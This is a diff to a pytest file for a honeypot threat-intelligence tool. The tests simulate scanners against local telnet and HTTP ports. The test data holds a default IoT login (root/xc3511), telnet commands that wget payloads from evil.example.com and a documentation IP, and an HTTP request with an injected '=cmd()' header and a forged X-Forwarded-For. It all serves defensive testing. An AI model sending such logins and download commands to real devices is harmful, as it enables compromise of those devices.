@@ -7,7 +7,6 @@ import io
 import json
 import pathlib
 import re
-import socket
 import subprocess
 import urllib.error
 import urllib.request
@@ -15,22 +14,10 @@ import urllib.request
 import pytest
 
 import honeypot_logs
-from noroshi import PATIENCE, Node, converse, wait_until
+from noroshi import PATIENCE, Node, converse, visit_from, wait_until
 
 STIX_SCHEMAS = pathlib.Path(__file__).resolve().parents[3] / "shared" / "data" / "stix" / "schemas"
 SCANNERS = [f"127.0.0.{number}" for number in range(2, 12)]
-
-
-def visit(port, source, *said):
-    """One conversation from a source address of ours."""
-    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE, source_address=(source, 0)) as connection:
-        connection.settimeout(PATIENCE)
-        for words in said:
-            connection.recv(65536)
-            connection.sendall(words)
-        connection.shutdown(socket.SHUT_WR)
-        while connection.recv(65536):
-            pass
 
 
 @pytest.fixture(scope="module")
@@ -39,7 +26,7 @@ def tower(tmp_path_factory):
     with Node(tmp_path_factory.mktemp("export")) as node:
         telnet, http = node.port("telnet"), node.port("http")
         for source in SCANNERS:
-            visit(telnet, source, b"root\r\n", b"xc3511\r\n")
+            visit_from(source, telnet, b"root\r\n", b"xc3511\r\n")
         request = (
             "GET /a?to=http://127.0.0.1/x&hidden={} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: =cmd()\r\n"
             "X-Forwarded-For: 203.0.113.200\r\nConnection: close\r\n\r\n"
@@ -78,7 +65,7 @@ def test_forged_headers_and_typed_urls_are_on_no_list(tmp_path):
         node.run("users", "add", "firewall", "--role", "reader")
         node.key = node.run("keys", "add", "firewall").split()[0]
         node.address = node.status()["api"][0]
-        visit(node.port("telnet"), "127.0.0.9", b"root\r\n", b"root\r\n", b"wget http://evil.example.com/x.sh\r\n", b"wget http://198.51.100.66/y\r\n")
+        visit_from("127.0.0.9", node.port("telnet"), b"root\r\n", b"root\r\n", b"wget http://evil.example.com/x.sh\r\n", b"wget http://198.51.100.66/y\r\n")
         converse(node.port("http"), b"GET / HTTP/1.1\r\nHost: forged.example.com\r\nX-Forwarded-For: 198.51.100.67\r\nConnection: close\r\n\r\n")
         wait_until(lambda: len(entries(node, "inbound-ips.txt")) == 2, "both visitors are on the list")
         everything = "".join(fetch(node, f"/feeds/{name}")[2] for name in
